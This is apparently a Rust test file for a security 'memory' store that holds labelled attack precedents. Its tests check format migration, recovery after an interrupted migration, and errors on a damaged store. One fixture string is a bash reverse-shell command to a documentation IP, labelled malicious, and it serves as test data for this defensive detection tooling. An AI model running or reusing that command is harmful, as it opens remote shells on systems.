//! Stores of every format are read; none is lost on the way to the next.

use std::{fs, path::Path, sync::Arc};

use inwarden_memory::{Memory, MemoryError, MemoryOptions, PrecedentQuery};
use inwarden_types::{Label, Technique, WallTime};

use crate::support::{HashingEmbed, precedent, snapshot, unpack_format_1};

fn embed() -> Arc<HashingEmbed> {
    HashingEmbed::with("hashing@1", 16)
}

fn check_contents(memory: &Memory) {
    assert_eq!((memory.precedents_len(), memory.knowledge_len()), (3, 1));
    let attack = "bash -i >& /dev/tcp/192.0.2.1/443 0>&1";
    let hits = memory
        .precedents(attack, &PrecedentQuery::nearest(10))
        .unwrap();
    assert_eq!(hits.len(), 3);
    let first = &hits[0].precedent;
    assert!((hits[0].score - 1.0).abs() < 1e-6, "{}", hits[0].score);
    assert_eq!((first.id.as_str(), first.text.as_str()), ("p2", attack));
    assert_eq!(first.label, Label::Malicious);
    assert_eq!(first.technique, Some(Technique("T1059.004".to_owned())));
    assert_eq!(first.observed, Some(WallTime(1_700_000_000_123_456_789)));
    assert_eq!(first.kind, None);
    let changed = hits.iter().find(|hit| hit.precedent.id == "p1").unwrap();
    assert_eq!(changed.precedent.label, Label::Undetermined);
    let notes = memory.knowledge("unix shell", 5).unwrap();
    assert_eq!(notes[0].document.id, "t1059");
}

fn open(dir: &Path) -> Memory {
    Memory::open(dir, embed(), MemoryOptions::default()).unwrap()
}

#[test]
fn a_store_of_format_1_is_read_without_changing_it() {
    let dir = tempfile::tempdir().unwrap();
    unpack_format_1(dir.path());
    let before = snapshot(dir.path());
    let memory = Memory::open_read_only(dir.path(), embed(), MemoryOptions::default()).unwrap();
    check_contents(&memory);
    assert!(
        snapshot(dir.path()) == before,
        "a file of the store changed"
    );
}

#[test]
fn a_store_of_format_1_is_brought_to_this_format_with_all_it_holds() {
    let dir = tempfile::tempdir().unwrap();
    unpack_format_1(dir.path());
    let read_only = Memory::open_read_only(dir.path(), embed(), MemoryOptions::default()).unwrap();
    let hash = read_only.content_hash();
    drop(read_only);
    let memory = open(dir.path());
    check_contents(&memory);
    assert_eq!(memory.content_hash(), hash);
    memory
        .upsert_precedents(&[precedent("p5", "id", Label::Benign)])
        .unwrap();
    drop(memory);
    assert!(!dir.path().join("collections").exists());
    let store_json = fs::read_to_string(dir.path().join("store.json")).unwrap();
    assert!(store_json.contains("\"format\":2"), "{store_json}");
    let memory = open(dir.path());
    assert_eq!(memory.precedents_len(), 4);
}

#[test]
fn a_migration_that_was_cut_off_is_done_again() {
    let dir = tempfile::tempdir().unwrap();
    unpack_format_1(dir.path());
    // As it is when the process dies before the journal is whole.
    fs::write(dir.path().join("journal"), b"half of a").unwrap();
    check_contents(&open(dir.path()));
    // As it is when it dies before the old collections are removed.
    fs::create_dir(dir.path().join("collections")).unwrap();
    check_contents(&open(dir.path()));
    assert!(!dir.path().join("collections").exists());
}

#[test]
fn a_damaged_store_of_format_1_is_a_typed_error_and_stays() {
    let dir = tempfile::tempdir().unwrap();
    unpack_format_1(dir.path());
    let segments = dir.path().join("collections/precedents/segments");
    let segment = fs::read_dir(segments).unwrap().next().unwrap().unwrap();
    fs::write(segment.path().join("segment.json"), "not json").unwrap();
    let error = Memory::open(dir.path(), embed(), MemoryOptions::default()).unwrap_err();
    assert!(
        matches!(
            error,
            MemoryError::Engine {
                collection: "precedents",
                ..
            }
        ),
        "{error:?}"
    );
    let store_json = fs::read_to_string(dir.path().join("store.json")).unwrap();
    assert!(store_json.contains("\"format\":1"), "{store_json}");
    fs::remove_dir_all(dir.path().join("collections/knowledge")).unwrap();
    assert!(Memory::open(dir.path(), embed(), MemoryOptions::default()).is_err());
}
